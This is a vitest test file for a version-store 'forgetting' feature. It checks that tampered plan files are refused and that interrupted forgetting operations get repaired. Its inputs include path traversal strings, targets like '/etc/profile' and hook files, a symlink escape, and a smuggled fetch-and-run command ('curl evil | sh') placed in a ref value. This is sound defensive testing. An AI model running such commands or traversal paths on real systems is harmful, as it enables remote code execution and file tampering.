// The plan of a forgetting: what somebody else wrote into it is followed nowhere, and one that was cut off is finished.
import { existsSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { aimAt } from '../../src/app/forget/target.ts';
import { checkStore } from '../../src/app/fsck.ts';
import { flushStep } from '../../src/app/session/flush.ts';
import { observeNote } from '../../src/app/session/observe.ts';
import { startSession } from '../../src/app/session/start.ts';
import { isRefName } from '../../src/core/ref-name.ts';
import { checkFolder } from '../../src/git/guard.ts';
import { bulkStore } from '../../src/git/objects/bulk.ts';
import { begunPlan } from '../../src/history/forget/execute-plan.ts';
import { planForgetting } from '../../src/history/forget/plan.ts';
import { encodePlan } from '../../src/history/forget/plan-file.ts';
import type { Plan } from '../../src/history/forget/planned.ts';
import { secretKey } from '../../src/history/store/secret-key.ts';
import { sha1 } from '../../src/platform/hash.ts';
import { errorOf, fsck, makeProject, type Project } from '../support/store.ts';
import { tracesOf } from '../support/traces.ts';

const OID = 'a'.repeat(40);
const ID = '01890000-0000-7000-8000-000000000000';
const EMPTY: Plan = { version: 1, id: ID, at: 1, refs: [], packed: [], ends: [], files: [], remove: [], objects: [] };

/** Lays a plan into a store, as its text. */
function lay(project: Project, text: string): void {
  mkdirSync(join(project.store, 'forgetting'));
  writeFileSync(join(project.store, 'forgetting', 'plan.json'), text);
  writeFileSync(join(project.store, 'forgetting', '0'), 'evil\n');
}

const victim = (project: Project): string => join(project.folder, 'victim');

function attacked(text: (project: Project) => string): Project {
  const project = makeProject();
  startSession(project.repository, 'A task');
  writeFileSync(victim(project), 'mine\n');
  lay(project, text(project));
  return project;
}

function expectRefused(project: Project, before: Record<string, string>): void {
  expect(errorOf(() => startSession(project.open(), 'Another', { beside: true })).code).toBe('damaged');
  expect(readFileSync(victim(project), 'utf8')).toBe('mine\n');
  for (const [name, content] of Object.entries(before))
    expect(readFileSync(join(project.store, name), 'utf8')).toBe(content);
  expect(checkStore(project.open()).findings).toMatchObject([{ severity: 'damage', where: 'forgetting/plan.json' }]);
  expect(checkStore(project.open(), { repair: true })).toMatchObject({ findings: [], healthy: true });
  expect(existsSync(join(project.store, 'forgetting'))).toBe(false);
}

const important = (project: Project): Record<string, string> =>
  Object.fromEntries(
    ['HEAD', 'STAGE', 'config', 'settings.json', 'key'].flatMap((name) =>
      existsSync(join(project.store, name)) ? [[name, readFileSync(join(project.store, name), 'utf8')]] : [],
    ),
  );

describe('a plan of a stranger', () => {
  it.each<[string, object]>([
    ['a ref outside', { refs: [{ ref: '../victim', old: OID, new: OID }] }],
    ['a ref that climbs', { refs: [{ ref: 'refs/../../victim', old: OID, new: OID }] }],
    ['a ref that is no ref', { refs: [{ ref: 'HEAD', old: OID, new: OID }] }],
    ['a value that is none', { refs: [{ ref: 'refs/heads/x', old: OID, new: 'curl evil | sh' }] }],
    ['an old value that is none', { refs: [{ ref: 'refs/heads/x', old: 7, new: OID }] }],
    ['a file outside', { files: ['../victim'] }],
    ['a file from the top', { files: ['/etc/profile'] }],
    ['a file of settings', { files: ['config'] }],
    ['a hook', { files: ['hooks/post-commit'] }],
    ['a reflog that climbs', { files: ['logs/refs/../../config'] }],
    ['an operation that is none', { files: ['oplog/begun.json'] }],
    ['a record in no session', { files: [`pending/../${ID}.json`] }],
    ['an object in no session', { files: [`pending/objects/${OID}`] }],
    ['an object that is none', { files: [`pending/${ID}/objects/victim`] }],
    ['an object below others', { files: [`pending/${ID}/objects/x/${OID}`] }],
    ['a file that is no text', { files: [{ startsWith: 1 }] }],
    ['removing outside', { remove: ['../victim'] }],
    ['removing by an empty part', { remove: ['lost//x'] }],
    ['removing settings', { remove: ['settings.json'] }],
    ['removing the key', { remove: ['key'] }],
    ['removing a ref', { remove: ['refs/heads/main'] }],
    ['removing the reflog of main', { remove: ['logs/refs/heads/main'] }],
    ['removing a lock', { remove: ['refs/heads/x.lock'] }],
    ['removing by a way out of pending', { remove: ['pending/../key'] }],
    ['removing a folder outside', { folders: ['../below'] }],
    ['folders that are none', { folders: 'victim' }],
    ['a reflog that is none', { files: ['logs/refs/heads/main.lock'] }],
    ['an end of a stranger', { ends: [{ pointer: 'refs/tags/x', old: null, new: OID }] }],
    ['an end that climbs', { ends: [{ pointer: 'refs/sessions/../../victim', old: null, new: OID }] }],
    ['objects that are none', { objects: ['../../victim'] }],
    ['values that are none', { packed: [[OID, '../victim']] }],
    ['lists that are none', { remove: 'victim' }],
    ['a version to come', { version: 2 }],
    ['a time that is none', { at: 'now' }],
  ])('that names %s is refused, even signed with the key', (_name, more) => {
    const project = attacked(({ repository }) => encodePlan(repository, { ...EMPTY, ...more } as Plan));
    expectRefused(project, important(project));
  });

  it('is not written where it would be larger than one that is read', () => {
    const { repository } = makeProject();
    const objects = ['x'.repeat(64 * 1024 * 1024)];
    expect(errorOf(() => encodePlan(repository, { ...EMPTY, objects } as Plan))).toMatchObject({
      code: 'invalid_input',
    });
  });

  it('is refused where the key did not sign it', () => {
    const rest = JSON.stringify({ ...EMPTY, remove: ['lost/x'] }).slice(1);
    for (const text of [
      `{"sha1":"${sha1(Buffer.from(rest))}",${rest}\n`,
      `{"hmac":"${'0'.repeat(64)}",${rest}\n`,
      '{"hmac":"',
      '',
    ]) {
      const project = attacked(({ repository }) => {
        secretKey(repository);
        return text;
      });
      expectRefused(project, important(project));
    }
  });

  it('is refused where it is signed and no JSON', () => {
    const project = attacked(({ repository }) => {
      const text = encodePlan(repository, EMPTY);
      const broken = encodePlan(repository, { toJSON: () => ['x'] } as unknown as Plan);
      expect(text).not.toBe(broken);
      return broken;
    });
    expectRefused(project, important(project));
  });

  it('leads nowhere through a link', () => {
    const project = makeProject();
    mkdirSync(join(project.folder, 'below'));
    writeFileSync(join(project.folder, 'below', 'victim'), 'mine\n');
    mkdirSync(join(project.store, 'lost'), { recursive: true });
    symlinkSync('../..', join(project.store, 'lost', 'a'));
    lay(project, encodePlan(project.repository, { ...EMPTY, remove: ['lost/a/below/victim'] }));
    expect(errorOf(() => startSession(project.open(), 'Another')).code).toBe('unsupported_store');
    expect(readFileSync(join(project.folder, 'below', 'victim'), 'utf8')).toBe('mine\n');
  });
});

it('looks at every part of a folder, and at none outside of the store', () => {
  const { folder, repository, store } = makeProject();
  mkdirSync(join(store, 'lost/b/c'), { recursive: true });
  symlinkSync('b', join(store, 'lost', 'a'));
  const check = (path: string) => () => checkFolder(repository.layout, path);
  expect(check(join(store, 'lost/b/c'))).not.toThrow();
  expect(check(join(store, 'not/there/yet'))).not.toThrow();
  expect(check(store)).not.toThrow();
  for (const path of [join(store, 'lost/a/c'), join(store, 'lost/a'), folder, `${store}-beside`])
    expect(errorOf(check(path)).code).toBe('unsupported_store');
});

it('refuses a store whose folder of forgetting, or list of what was forgotten, is a link', () => {
  for (const name of ['forgetting', 'forgotten.json']) {
    const { store, open } = makeProject();
    symlinkSync('/nonexistent/file', join(store, name));
    expect(errorOf(() => open()).code).toBe('unsupported_store');
  }
});

it.each([
  ['refs/heads/main', true],
  ['refs/notes/a-b_c.d', true],
  ['refs/', false],
  ['refs', false],
  ['heads/main', false],
  ['refs/heads/.hidden', false],
  ['refs/heads/a..b', false],
  ['refs/heads//b', false],
  ['refs/heads/a.lock', false],
  ['refs/heads/a.lock/b', false],
  ['refs/heads/a b', false],
  ['refs/heads/a\nb', false],
  ['refs/heads/a@{b', false],
  ['refs/heads/a.', false],
  ['refs/heads/', false],
  [null, false],
])('knows whether %j is the name of a ref', (name, is) => {
  expect(isRefName(name)).toBe(is);
});

describe('a forgetting that was cut off', () => {
  it.each([0, 1, 2])('after %i refs is a leftover, and is finished by a repair before anything else', (moved) => {
    const project = makeProject();
    const { repository, store } = project;
    startSession(repository, 'One that ends');
    observeNote(repository, 'a Zwiebelkuchen here');
    flushStep(repository);
    startSession(repository, 'Next', { replace: true });
    observeNote(repository, 'a Zwiebelkuchen there');
    flushStep(repository);
    const aim = aimAt(repository, { text: 'Zwiebelkuchen' }, false);
    const { plan, staged } = planForgetting(repository, bulkStore(repository), {
      forgetting: aim.forgetting,
      list: aim.list,
      message: () => 'forget',
    });
    expect(plan.refs.length).toBeGreaterThan(2);
    mkdirSync(join(store, 'forgetting'));
    for (const [index, { content }] of staged.entries())
      writeFileSync(join(store, 'forgetting', String(index)), content);
    writeFileSync(join(store, 'forgetting', 'plan.tmp'), encodePlan(repository, plan));
    renameSync(join(store, 'forgetting', 'plan.tmp'), join(store, 'forgetting', 'plan.json'));
    for (const { ref, new: next } of plan.refs.slice(0, moved)) writeFileSync(join(store, ref), `${next}\n`);
    expect(begunPlan(project.open())).toEqual({ ...plan, hmac: expect.any(String) });
    expect(checkStore(project.open()).findings).toMatchObject([{ severity: 'leftover', where: 'forgetting' }]);
    const { repaired, findings } = checkStore(project.open(), { repair: true });
    expect(repaired).toEqual(['Finished a forgetting, which had been cut off.']);
    expect(findings).toEqual([]);
    expect(tracesOf(store, 'Zwiebelkuchen')).toEqual([]);
    expect(fsck(store)).toBe('');
  });
});
